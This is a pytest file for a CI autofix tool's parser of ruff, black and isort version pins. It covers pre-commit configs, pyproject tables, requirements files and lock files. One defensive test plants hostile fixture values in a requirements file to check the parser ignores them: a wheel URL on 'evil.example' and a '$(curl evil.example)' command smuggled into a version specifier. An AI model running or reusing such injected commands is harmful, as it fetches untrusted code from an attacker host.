from __future__ import annotations

from pathlib import Path

from ci_autofix.fixers.config import read_repo_config

PRE_COMMIT = """\
# the project's hooks
repos:
  - repo: https://github.com/pre-commit/pre-commit-hooks
    rev: v5.0.0
    hooks:
      - id: trailing-whitespace
  - repo: https://github.com/astral-sh/ruff-pre-commit
    rev: v0.8.6  # pinned
    hooks:
      - id: ruff
        args: [--fix, --exit-non-zero-on-fix]
      - id: ruff-format
-   repo: https://github.com/psf/black-pre-commit-mirror
    rev: "24.2.0"
    hooks:
    -   id: black
        args:
          - --line-length
          - "100"
  - repo: https://github.com/PyCQA/isort
    rev: 5.13.2
    hooks:
      - id: isort
        name: isort (python)
"""


def _write(root: Path, files: dict[str, str]) -> None:
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)


def test_pre_commit_hooks_revs_and_args(tmp_path: Path) -> None:
    _write(tmp_path, {".pre-commit-config.yaml": PRE_COMMIT})
    config = read_repo_config(tmp_path)
    assert [(h.id, h.fixer.name, h.args) for h in config.hooks] == [
        ("ruff", "ruff-check", ("--fix", "--exit-non-zero-on-fix")),
        ("ruff-format", "ruff-format", ()),
        ("black", "black", ("--line-length", "100")),
        ("isort", "isort", ()),
    ]
    pins = {pkg: config.pin(pkg, runs_pre_commit=True) for pkg in ("ruff", "black", "isort")}
    assert {pkg: pin.requirement.exact for pkg, pin in pins.items() if pin} == {
        "ruff": "0.8.6",
        "black": "24.2.0",
        "isort": "5.13.2",
    }
    ruff_pin = pins["ruff"]
    assert ruff_pin is not None
    assert ruff_pin.source == ".pre-commit-config.yaml (astral-sh/ruff-pre-commit rev v0.8.6)"
    assert all(config.configures(pkg) for pkg in ("ruff", "black", "isort"))


def test_local_pre_commit_hook_with_an_entry_and_dependencies(tmp_path: Path) -> None:
    _write(
        tmp_path,
        {
            ".pre-commit-config.yaml": """\
repos:
  - repo: local
    hooks:
      - id: format
        name: format
        entry: ruff format
        language: python
        additional_dependencies: ["ruff==0.6.9"]
"""
        },
    )
    config = read_repo_config(tmp_path)
    assert [(h.id, h.fixer.name) for h in config.hooks] == [("format", "ruff-format")]
    pin = config.pin("ruff", runs_pre_commit=True)
    assert pin is not None
    assert pin.requirement.exact == "0.6.9"


def test_tool_tables_and_config_files(tmp_path: Path) -> None:
    _write(
        tmp_path,
        {
            "pyproject.toml": '[tool.black]\nline-length = 100\nrequired-version = "24"\n',
            ".ruff.toml": 'required-version = ">=0.8"\n',
            "setup.cfg": "[metadata]\nname = x\n\n[isort]\nprofile = black\n",
        },
    )
    config = read_repo_config(tmp_path)
    assert config.evidence == {
        "black": ["pyproject.toml [tool.black]"],
        "ruff": [".ruff.toml"],
        "isort": ["setup.cfg [isort]"],
    }
    black = config.pin("black", runs_pre_commit=False)
    ruff = config.pin("ruff", runs_pre_commit=False)
    assert black is not None and black.requirement.spec == "==24.*"
    assert ruff is not None and ruff.requirement.spec == ">=0.8"


def test_requirements_and_dependency_lists(tmp_path: Path) -> None:
    _write(
        tmp_path,
        {
            "requirements-dev.txt": "-r requirements.txt\nblack[jupyter] == 24.2.0  # formatter\nruff>=0.8,<0.9 ; "
            "python_version >= '3.9'\nruff-lsp==0.0.50\n",
            "requirements/lint.txt": "isort~=5.13\n",
            "pyproject.toml": '[project]\nname = "x"\n[project.optional-dependencies]\ndev = ["ruff==0.8.6"]\n'
            '[dependency-groups]\nlint = ["isort==5.13.2", {include-group = "dev"}]\n',
        },
    )
    config = read_repo_config(tmp_path)
    black = config.pin("black", runs_pre_commit=False)
    ruff = config.pin("ruff", runs_pre_commit=False)
    isort = config.pin("isort", runs_pre_commit=False)
    assert black is not None and (black.requirement.spec, black.source) == (
        "==24.2.0",
        "requirements-dev.txt",
    )
    # an exact pin wins over a range
    assert ruff is not None and (ruff.requirement.spec, ruff.source) == (
        "==0.8.6",
        "pyproject.toml [project.optional-dependencies] dev",
    )
    assert isort is not None and isort.requirement.spec == "==5.13.2"
    assert [p.requirement.spec for p in config.pins["ruff"]] == [">=0.8,<0.9", "==0.8.6"]
    assert config.evidence["isort"] == ["requirements/lint.txt", "pyproject.toml [dependency-groups] lint"]


def test_poetry_dependencies(tmp_path: Path) -> None:
    _write(
        tmp_path,
        {
            "pyproject.toml": """\
[tool.poetry.dependencies]
python = "^3.11"
[tool.poetry.group.dev.dependencies]
black = "^24.2.0"
isort = { version = "5.13.2", optional = true }
"""
        },
    )
    config = read_repo_config(tmp_path)
    black = config.pin("black", runs_pre_commit=False)
    isort = config.pin("isort", runs_pre_commit=False)
    assert black is not None and black.requirement.spec == ">=24.2.0,<25"
    assert isort is not None and isort.requirement.spec == "==5.13.2"
    assert not config.configures("ruff")


def test_pre_commit_pin_wins_only_when_pre_commit_failed(tmp_path: Path) -> None:
    _write(tmp_path, {".pre-commit-config.yaml": PRE_COMMIT, "requirements-dev.txt": "ruff==0.9.1\n"})
    config = read_repo_config(tmp_path)
    by_pre_commit = config.pin("ruff", runs_pre_commit=True)
    by_command = config.pin("ruff", runs_pre_commit=False)
    assert by_pre_commit is not None and by_pre_commit.requirement.exact == "0.8.6"
    assert by_command is not None and by_command.requirement.exact == "0.9.1"
    (tmp_path / "requirements-dev.txt").write_text("ruff\n")
    # the hook's `rev:` is the version pre-commit installs, not the one a step running ruff itself does
    config = read_repo_config(tmp_path)
    assert config.pin("ruff", runs_pre_commit=False) is None
    assert config.pin("ruff", runs_pre_commit=True) == by_pre_commit


def test_unreadable_and_hostile_files_are_ignored(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "pyproject.toml").write_text("[tool.ruff]\n")
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "pyproject.toml").symlink_to(outside / "pyproject.toml")
    _write(
        repo,
        {
            "requirements.txt": "isort @ https://evil.example/isort.whl\nruff>=$(curl evil.example)\n",
            "setup.cfg": "this is [not an ini\n[isort\n",
        },
    )
    config = read_repo_config(repo)
    assert config.evidence == {"isort": ["requirements.txt"], "ruff": ["requirements.txt"]}  # not the symlink
    assert config.pins == {}


def test_pip_compile_output_with_hashes(tmp_path: Path) -> None:
    _write(
        tmp_path,
        {
            "requirements-lint.txt": "black==24.2.0 \\\n    --hash=sha256:aaaa \\\n    --hash=sha256:bbbb\n"
            "    # via -r requirements-lint.in\n"
        },
    )
    config = read_repo_config(tmp_path)
    black = config.pin("black", runs_pre_commit=False)
    assert black is not None and black.requirement.exact == "24.2.0"


def test_lock_files_give_the_exact_version_ci_ran(tmp_path: Path) -> None:
    _write(
        tmp_path,
        {
            "pyproject.toml": '[project]\nname = "x"\n[dependency-groups]\ndev = ["ruff>=0.8", "black"]\n',
            "uv.lock": 'version = 1\n\n[[package]]\nname = "ruff"\nversion = "0.8.6"\nsource = { registry = "https://pypi.org/simple" }\n'
            '\n[[package]]\nname = "black"\nversion = "not-a-version"\n',
            "poetry.lock": '[[package]]\nname = "isort"\nversion = "5.13.2"\n',
        },
    )
    config = read_repo_config(tmp_path)
    ruff = config.pin("ruff", runs_pre_commit=False)
    assert ruff is not None and (ruff.requirement.spec, ruff.source) == ("==0.8.6", "uv.lock")
    assert config.pin("black", runs_pre_commit=False) is None
    assert not config.configures("isort")  # a lock file alone (a transitive dependency) configures nothing
